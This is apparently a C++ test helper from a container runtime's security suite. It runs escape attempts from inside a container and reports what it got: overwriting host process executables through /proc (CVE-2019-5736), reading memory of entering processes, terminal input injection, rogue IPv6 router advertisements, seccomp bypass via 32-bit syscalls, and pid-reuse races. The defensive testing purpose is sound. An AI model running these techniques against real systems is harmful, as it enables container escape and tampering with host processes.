// A hostile process in a container, for the security tests: tries an attack and reports what it got. Static,
// like the probe.
//
// attacker COMMAND [ARGUMENT...]
//
// Commands that race go on until they are killed, and print each finding once.
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cerrno>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <set>
#include <string>
#include <vector>

namespace {

using Words = std::vector<std::string>;

std::string failure() {
  return std::string("!") + strerrorname_np(errno);
}

std::string outcome(long result) {
  return result == -1 ? failure() : "ok";
}

/** Prints a line unless it was printed before. */
void tell_once(const std::string& line) {
  static std::set<std::string> told;
  if (!told.insert(line).second) return;
  std::printf("%s\n", line.c_str());
  std::fflush(stdout);
}

std::string link_of(const std::string& path) {
  std::array<char, 4096> target{};
  const ssize_t size = ::readlink(path.c_str(), target.data(), target.size());
  return size == -1 ? failure() : std::string(target.data(), static_cast<size_t>(size));
}

std::string first_line_of(const std::string& path) {
  std::array<char, 256> text{};
  const int file = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (file == -1) return failure();
  const ssize_t size = ::read(file, text.data(), text.size());
  ::close(file);
  const std::string whole(text.data(), size > 0 ? static_cast<size_t>(size) : 0);
  return whole.substr(0, whole.find('\n'));
}

std::vector<std::string> names_in(const std::string& path) {
  std::vector<std::string> names;
  DIR* stream = ::opendir(path.c_str());
  while (const dirent* entry = stream == nullptr ? nullptr : ::readdir(stream)) {
    if (entry->d_name[0] != '.') names.emplace_back(entry->d_name);
  }
  if (stream != nullptr) ::closedir(stream);
  return names;
}

/** Returns the pids of the other processes. */
std::vector<std::string> processes() {
  std::vector<std::string> found;
  const std::string self = std::to_string(::getpid());
  for (const std::string& name : names_in("/proc")) {
    if (name.find_first_not_of("0123456789") == std::string::npos && name != self) found.push_back(name);
  }
  return found;
}

/** Returns "socket" for "socket:[123]"; other texts, such as "/dev/pts/0", unchanged. */
std::string without_number(const std::string& link) {
  return link.substr(0, link.find(":["));
}

/** Whether a process is entering the container and has not executed its command yet. */
bool is_on_its_way(const std::string& process) {
  return first_line_of("/proc/" + process + "/comm").starts_with("tspod");
}

/** swap A B: exchanges the two paths, again and again. */
void swap(const Words& words) {
  for (;;) ::renameat2(AT_FDCWD, words.at(0).c_str(), AT_FDCWD, words.at(1).c_str(), RENAME_EXCHANGE);
}

/**
 * Tries to write to the program of every process whose program is outside the container's file system.
 * Opening it through the O_PATH descriptor also works if the process has executed something else meanwhile
 * (CVE-2019-5736).
 */
void overwrite(const Words&) {
  struct stat root {};
  ::stat("/", &root);
  for (;;) {
    for (const std::string& process : processes()) {
      const int program = ::open(("/proc/" + process + "/exe").c_str(), O_PATH | O_CLOEXEC);
      struct stat status {};
      if (program == -1 || ::fstat(program, &status) == -1 || status.st_dev == root.st_dev) {
        if (program == -1 && is_on_its_way(process)) tell_once("exe=" + failure());
        if (program != -1) ::close(program);
        continue;
      }
      const std::string path = "/proc/self/fd/" + std::to_string(program);
      const int writable = ::open(path.c_str(), O_WRONLY | O_CLOEXEC);
      tell_once("exe=" + link_of(path) + " write=" + outcome(writable));
      if (writable != -1) ::close(writable);
      ::close(program);
    }
  }
}

void attach(const std::string& process) {
  const auto pid = static_cast<pid_t>(std::strtol(process.c_str(), nullptr, 10));
  if (::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == -1) {
    tell_once("attach=" + failure());
    return;
  }
  ::ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr);
  ::waitpid(pid, nullptr, __WALL);
  // The process may have executed its command before it stopped; then it is one of the container's own.
  if (is_on_its_way(process)) tell_once("attach=ok");
  ::ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
}

/**
 * Tries to open the memory and descriptors of processes that are entering the container (CVE-2016-9962); with
 * an argument, also to trace them.
 */
void spy(const Words& words) {
  for (;;) {
    for (const std::string& process : processes()) {
      if (!is_on_its_way(process)) continue;
      tell_once("seen");
      const std::string directory = "/proc/" + process;
      if (!words.empty()) attach(process);
      const int memory = ::open((directory + "/mem").c_str(), O_RDWR | O_CLOEXEC);
      // If the process has executed its command meanwhile, access is legitimate.
      if (memory == -1 || is_on_its_way(process)) tell_once("mem=" + outcome(memory));
      if (memory != -1) ::close(memory);
      const int fds = ::open((directory + "/fd").c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
      if (fds == -1) {
        tell_once("fd=" + failure());
        continue;
      }
      ::close(fds);
      for (const std::string& fd : names_in(directory + "/fd"))
        tell_once("fd=" + without_number(link_of(std::string(directory).append("/fd/").append(fd))));
    }
  }
}

#ifdef __x86_64__
/** Makes a system call as 32-bit x86 programs do. */
long call_32(long number, uint32_t first, uint32_t second, uint32_t third) {
  long result = number;
  asm volatile("int $0x80"
               : "+a"(result)
               : "b"(first), "c"(second), "d"(third)
               : "memory", "r8", "r9", "r10", "r11");
  if (result >= 0) return result;
  errno = static_cast<int>(-result);
  return -1;
}

/**
 * Whether the kernel takes such calls: one without 32-bit programs (CONFIG_IA32_EMULATION, or in a
 * confidential virtual machine) ends the caller with SIGSEGV.
 */
bool takes_calls_of_32_bits() {
  constexpr long kGetpid = 20;
  const pid_t child = ::fork();
  if (child == 0) ::_exit(call_32(kGetpid, 0, 0, 0) > 0 ? 0 : 1);
  int status = 0;
  return child > 0 && ::waitpid(child, &status, 0) == child && !WIFSIGNALED(status);
}

void families_of_32_bits(int family) {
  constexpr long kSocketcall = 102;
  constexpr long kSocket = 359;
  constexpr long kX32 = 0x40000000;
  const std::string name = std::to_string(family);
  void* low = ::mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  if (low == MAP_FAILED) return;
  const std::array<uint32_t, 3> arguments{static_cast<uint32_t>(family), SOCK_SEQPACKET, 0};
  std::memcpy(low, arguments.data(), sizeof arguments);
  const auto address = static_cast<uint32_t>(reinterpret_cast<uintptr_t>(low));
  if (takes_calls_of_32_bits()) {
    tell_once("socketcall " + name + "=" + outcome(call_32(kSocketcall, 1, address, 0)));
    tell_once("socket32 " + name + "=" +
              outcome(call_32(kSocket, static_cast<uint32_t>(family), SOCK_SEQPACKET, 0)));
  }
  tell_once("socketx32 " + name + "=" +
            outcome(::syscall(kX32 | SYS_socket, static_cast<long>(family), SOCK_SEQPACKET, 0)));
}
#endif

/** families FAMILY...: asks for sockets of these families in all possible ways. */
void families(const Words& words) {
  for (const std::string& word : words) {
    const int family = static_cast<int>(std::strtol(word.c_str(), nullptr, 10));
    tell_once("socket " + word + "=" + outcome(::socket(family, SOCK_SEQPACKET, 0)));
    // The kernel takes an int: higher bits must not deceive the filter.
    tell_once("socket64 " + word + "=" +
              outcome(::syscall(SYS_socket, (1L << 40) | static_cast<long>(family), SOCK_SEQPACKET, 0)));
#ifdef __x86_64__
    families_of_32_bits(family);
#endif
  }
}

/** type: puts a character into the input of each reachable terminal, as if it were typed there. */
void type(const Words&) {
  constexpr int kPasteSelection = 3;
  for (const char* path :
       {"/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2", "/dev/tty", "/dev/console"}) {
    const int terminal = ::open(path, O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (terminal == -1) {
      tell_once(std::string(path) + "=" + failure());
      continue;
    }
    char letter = 'x';
    char paste = kPasteSelection;
    const std::string stuffed = outcome(::ioctl(terminal, TIOCSTI, &letter));
    tell_once(std::string(path) + "=" + stuffed + " " + outcome(::ioctl(terminal, TIOCLINUX, &paste)));
    ::close(terminal);
  }
}

/** devices TYPE:MAJOR:MINOR...: makes and opens each device. */
void devices(const Words& words) {
  for (const std::string& word : words) {
    const std::string path = "/tmp/device";
    unsigned major = 0;
    unsigned minor = 0;
    char kind = 'c';
    if (std::sscanf(word.c_str(), "%c:%u:%u", &kind, &major, &minor) != 3) continue;
    ::unlink(path.c_str());
    const long made = ::mknod(path.c_str(), (kind == 'b' ? S_IFBLK : S_IFCHR) | 0600, makedev(major, minor));
    const std::string making = outcome(made);
    const int device = made == -1 ? -1 : ::open(path.c_str(), O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    tell_once(std::string(word).append("=").append(making).append(made == -1 ? " -" : " " + outcome(device)));
    if (device != -1) ::close(device);
  }
}

/**
 * advertise INTERFACE: announces to everybody on the link that this is their router, and that
 * 2001:db8:bad::/64 is their prefix (CVE-2020-10749).
 */
void advertise(const Words& words) {
  struct {
    nd_router_advert head;
    nd_opt_prefix_info prefix;
  } message{};
  constexpr uint16_t kSeconds = 1800;
  constexpr uint8_t kPrefixBits = 64;
  constexpr int kHops = 255;  // others are ignored
  message.head.nd_ra_type = ND_ROUTER_ADVERT;
  message.head.nd_ra_router_lifetime = htons(kSeconds);
  message.prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
  message.prefix.nd_opt_pi_len = sizeof message.prefix / 8;
  message.prefix.nd_opt_pi_prefix_len = kPrefixBits;
  message.prefix.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
  message.prefix.nd_opt_pi_valid_time = htonl(kSeconds);
  message.prefix.nd_opt_pi_preferred_time = htonl(kSeconds);
  ::inet_pton(AF_INET6, "2001:db8:bad::", &message.prefix.nd_opt_pi_prefix);
  sockaddr_in6 everybody{};
  everybody.sin6_family = AF_INET6;
  everybody.sin6_scope_id = ::if_nametoindex(words.at(0).c_str());
  ::inet_pton(AF_INET6, "ff02::1", &everybody.sin6_addr);
  const int raw = ::socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMPV6);
  ::setsockopt(raw, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &kHops, sizeof kHops);
  const ssize_t sent =
      ::sendto(raw, &message, sizeof message, 0, reinterpret_cast<sockaddr*>(&everybody), sizeof everybody);
  tell_once("sent=" + outcome(sent));
  ::close(raw);
}

volatile sig_atomic_t is_let_go = 0;

char state_of(pid_t pid) {
  const std::string line = first_line_of("/proc/" + std::to_string(pid) + "/stat");
  const size_t name_end = line.rfind(')');
  return name_end == std::string::npos || name_end + 2 >= line.size() ? '?' : line[name_end + 2];
}

/**
 * renew COUNT: has children that have ended, and reaps them as soon as it is stopped: another process, which
 * is not its child, resumes it.
 */
void renew(const Words& words) {
  const pid_t self = ::getpid();
  const auto nap = [] {
    const timespec one_ms{0, 1'000'000};
    ::nanosleep(&one_ms, nullptr);
  };
  ::signal(SIGCONT, [](int) { is_let_go = 1; });
  for (int left = std::stoi(words.at(0)); left > 0; --left) {
    if (::fork() == 0) ::_exit(0);
  }
  if (::fork() == 0) {
    if (::fork() != 0) ::_exit(0);
    ::setsid();
    while (state_of(self) != '?') {
      if (state_of(self) == 'T') ::kill(self, SIGCONT);
    }
    ::_exit(0);
  }
  while (is_let_go == 0) nap();
  nap();
  while (::waitpid(-1, nullptr, WNOHANG) > 0) continue;
  for (;;) ::pause();
}

/** Returns the pids, in this pid namespace, of ended children of other processes that run this program. */
std::vector<pid_t> unreaped() {
  std::vector<pid_t> found;
  for (const std::string& name : names_in("/proc")) {
    const pid_t pid = std::atoi(name.c_str());
    if (pid <= 0 || state_of(pid) != 'Z') continue;
    if (first_line_of("/proc/" + name + "/comm") == "attacker") found.push_back(pid);
  }
  return found;
}

pid_t take_number(int last_pid, pid_t wanted) {
  const std::string before = std::to_string(wanted - 1);
  (void)!::pwrite(last_pid, before.data(), before.size(), 0);
  const pid_t pid = ::fork();
  if (pid != 0) return pid;
  ::prctl(PR_SET_PDEATHSIG, SIGKILL);
  for (;;) ::pause();
}

/** Time in which whoever ends the check may signal what has the pids of its children. */
constexpr unsigned kSignalSeconds = 6;

/**
 * take COUNT SECONDS: plays a host whose new processes get the pids of the children of `renew COUNT` once
 * those are reaped, for which it waits so long, and prints how many of them were signalled. For a pid
 * namespace of its own.
 */
void take(const Words& words) {
  const size_t count = std::stoul(words.at(0));
  const time_t end = ::time(nullptr) + std::stoi(words.at(1));
  const int last_pid = ::open("/proc/sys/kernel/ns_last_pid", O_WRONLY | O_CLOEXEC);
  std::vector<pid_t> numbers;
  while (numbers.size() < count && ::time(nullptr) < end) numbers = unreaped();
  while (!numbers.empty() && ::kill(numbers.front(), 0) == 0 && ::time(nullptr) < end) continue;
  std::vector<pid_t> victims;
  victims.reserve(numbers.size());
  for (const pid_t number : numbers) victims.push_back(take_number(last_pid, number));
  size_t taken = 0;
  for (const pid_t victim : victims) taken += std::ranges::count(numbers, victim);
  ::sleep(kSignalSeconds);
  int hit = 0;
  for (const pid_t victim : victims) {
    if (::waitpid(victim, nullptr, WNOHANG | WUNTRACED) == victim) ++hit;
    ::kill(victim, SIGKILL);
  }
  tell_once("taken=" + std::to_string(taken) + " hit=" + std::to_string(hit));
}

/** lease FILE: holds a write lease, so that an open of the file waits until the kernel ends the lease. */
void lease(const Words& words) {
  const int file = ::open(words.at(0).c_str(), O_RDWR | O_CLOEXEC);
  ::signal(SIGIO, SIG_IGN);
  if (::fcntl(file, F_SETLEASE, F_WRLCK) == 0) tell_once("leased");
  for (;;) ::pause();
}

constexpr struct {
  const char* name;
  void (*run)(const Words&);
} kCommands[] = {
    {"swap", swap},           {"overwrite", overwrite}, {"spy", spy},
    {"families", families},   {"type", type},           {"devices", devices},
    {"advertise", advertise}, {"renew", renew},         {"take", take},
    {"lease", lease},
};

}  // namespace

int main(int argc, char** argv) {
  const std::string wanted = argc > 1 ? argv[1] : "";
  for (const auto& command : kCommands) {
    if (wanted != command.name) continue;
    command.run(Words(argv + 2, argv + argc));
    return 0;
  }
  std::fprintf(stderr, "attacker: no command \"%s\"\n", wanted.c_str());
  return 99;
}
